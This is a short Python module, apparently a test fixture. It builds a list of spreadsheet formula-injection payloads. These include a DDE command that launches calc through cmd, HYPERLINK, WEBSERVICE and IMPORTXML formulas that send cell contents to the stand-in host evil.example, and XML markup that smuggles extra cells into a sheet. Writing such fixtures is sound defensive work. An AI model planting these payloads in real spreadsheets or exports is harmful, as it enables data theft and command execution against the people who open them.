"""What people type to make a spreadsheet run something."""

from __future__ import annotations

_STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    "==",
    "'=",
]
_BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example?"&A1,"Click")',
    'WEBSERVICE("https://evil.example/"&B2)',
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
]
_MARKUP = [
    "<r>x</r>",
    '<r></r></is></c><c r="C2"><f>1+1</f><v>2</v></c><c r="D2" t="inlineStr"><is><r></r>',
    "<f>1+1</f>",
    "</t></is></c><f>1+1</f>",
    "<![CDATA[=1+1]]>",
    "&#61;1+1",
    "_x003D_1+1",
    "{=1+1}",
    "<?xml version='1.0'?>",
    "https://evil.example/",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\evil.xlsx",
    "\x00=1+1",
    "\ud800=1+1",
    "\ufffe=1+1",
    "\u202e=1+1",
    "=" * 40_000,
]
PAYLOADS = [f"{start}{body}" for start in _STARTS for body in _BODIES] + _MARKUP
